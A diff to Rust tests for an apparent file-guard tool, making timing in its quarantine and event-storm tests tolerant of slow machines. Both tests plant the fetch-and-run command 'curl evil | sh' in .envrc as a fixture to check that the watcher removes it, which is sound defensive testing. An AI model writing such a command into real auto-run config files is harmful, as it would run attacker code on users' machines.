@@ -113,7 +113,8 @@ fn predicted_quarantine_names_do_not_keep_a_planted_file() {
                mkdir -p .envrc.guard-quarantine-$t-$n/x .vscode/tasks.json.guard-quarantine-$t-$n/x; \
              done; done; \
              echo 'curl evil | sh' > .envrc && echo '{}' > .vscode/tasks.json && echo planted=1; \
-             sleep 1.2; [ -e .envrc ] && echo during=present || echo during=gone",
+             for i in $(seq 1 300); do [ -e .envrc ] || break; sleep 0.1; done; \
+             [ -e .envrc ] && echo during=present || echo during=gone",
         );
         out.expect_code(0);
         assert_eq!(out.field("planted").as_deref(), Some("1"), "{}", out.all());
@@ -341,25 +342,46 @@ fn an_event_storm_does_not_spin_the_watcher() {
         env.own();
         let storm = common::py(
             "import os, time
-end = time.time() + 4
+start = time.time()
+open(\"storming\", \"w\").close()
 n = 0
-while time.time() < end:
+planted = False
+while time.time() < start + 4 or planted and os.path.exists(\".envrc\") and time.time() < start + 30:
     p = \"f%d\" % (n % 50)
     open(p, \"w\").close()
     os.unlink(p)
     n += 1
-    if n == 20000:
+    if n == 2000:
         open(\".envrc\", \"w\").write(\"curl evil | sh\\n\")
+        planted = True
 print(\"ops=%d\" % n)
 print(\"envrc=%s\" % (\"present\" if os.path.exists(\".envrc\") else \"gone\"))",
         );
-        let child = env
+        // The storm goes on for 4 s, and for as long as the file planted
+        // early in it stays (30 s at most): the watcher must act while it
+        // rages, however slowly a loaded machine runs it.
+        let mut child = env
             .guard(&["run", "--", "sh", "-c", &storm])
             .stdout(std::process::Stdio::piped())
             .stderr(std::process::Stdio::piped())
             .spawn()
             .unwrap();
-        std::thread::sleep(std::time::Duration::from_millis(3700));
+        // Measured from the storm's start, not guard's: the sandbox may
+        // take seconds to start on a loaded machine.
+        let storming = env.project.join("storming");
+        let start = std::time::Instant::now();
+        while !storming.exists() {
+            assert!(
+                child.try_wait().unwrap().is_none(),
+                "guard exited before the storm"
+            );
+            assert!(
+                start.elapsed() < std::time::Duration::from_secs(60),
+                "the storm never started"
+            );
+            std::thread::sleep(std::time::Duration::from_millis(20));
+        }
+        std::thread::sleep(std::time::Duration::from_millis(3000));
         let ticks = thread_ticks(child.id(), "guard-protect");
         let out = common::Outcome::from(child.wait_with_output().unwrap());
         out.expect_code(0);
